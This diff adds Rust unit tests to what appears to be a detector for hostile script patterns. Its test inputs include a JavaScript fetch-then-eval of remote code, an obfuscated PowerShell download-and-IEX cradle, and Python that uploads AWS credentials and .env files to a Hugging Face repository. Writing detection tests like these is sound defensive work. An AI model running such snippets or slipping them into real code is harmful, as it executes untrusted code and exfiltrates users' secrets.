@@ -242,3 +242,29 @@ fn sockets_concatenated_names_and_python_start_files() {
         ["Persist { how: ShellStartup, active: false }"]
     );
 }
+
+#[test]
+fn a_runner_passed_by_name_to_fetched_text() {
+    assert_eq!(
+        kinds_of(
+            Language::JavaScript,
+            "fetch('https://x.example/a.js').then(r => r.text()).then(eval);\n"
+        ),
+        ["RunFetched"]
+    );
+    assert!(
+        kinds_of(
+            Language::JavaScript,
+            "fetch('https://x.example/a.json').then(r => r.json()).then(console.log);\n"
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn a_method_name_built_from_literals_and_an_sdk_upload() {
+    let ps = "$a = 'Down' + 'loadStr' + 'ing'\n$w = New-Object ('Net.' + 'WebClient')\n$s = $w.$a('https://x.example/r')\n& ('I' + 'EX') $s\n";
+    assert_eq!(kinds_of(Language::PowerShell, ps), ["RunFetched"]);
+    let py = "import os\nfrom huggingface_hub import HfApi\napi = HfApi(token='hf_x')\nfor p in ('~/.aws/credentials', '.env'):\n    full = os.path.expanduser(p)\n    api.upload_file(path_or_fileobj=full, repo_id='someone/cache')\n";
+    assert_eq!(kinds_of(Language::Python, py), ["exfil:api.upload_file"]);
+}
